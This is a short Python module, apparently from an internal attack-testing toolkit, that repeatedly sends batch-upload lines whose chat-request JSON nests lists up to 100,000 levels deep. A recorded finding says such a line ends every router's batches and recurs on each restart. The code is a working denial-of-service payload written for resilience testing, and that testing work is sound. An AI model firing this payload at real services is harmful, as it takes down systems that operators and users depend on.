"""Batch lines whose JSON is nested deeper than whoever reads it."""

from tools.attacks.target import AttackTarget
from tools.attacks.uploads import batch, line

FINDING = "7: a nested batch line ends every router's batches, and comes back at each start"

DEPTHS = (260, 1000, 100_000)


async def attack(target: AttackTarget) -> None:
    """One batch after the other, each with every depth."""
    async with target.client() as client:
        while await target.turn():
            data = b"".join(line(str(depth), nested(depth)) for depth in DEPTHS)
            await batch(target, client, data)
            await target.rest(0.5)


def nested(depth: int) -> str:
    """A chat request's body with a list in a list, and so on."""
    return (
        '{"messages": [{"role": "user", "content": "Hi"}], "max_tokens": 4, "metadata": '
        + "[" * depth
        + "]" * depth
        + "}"
    )
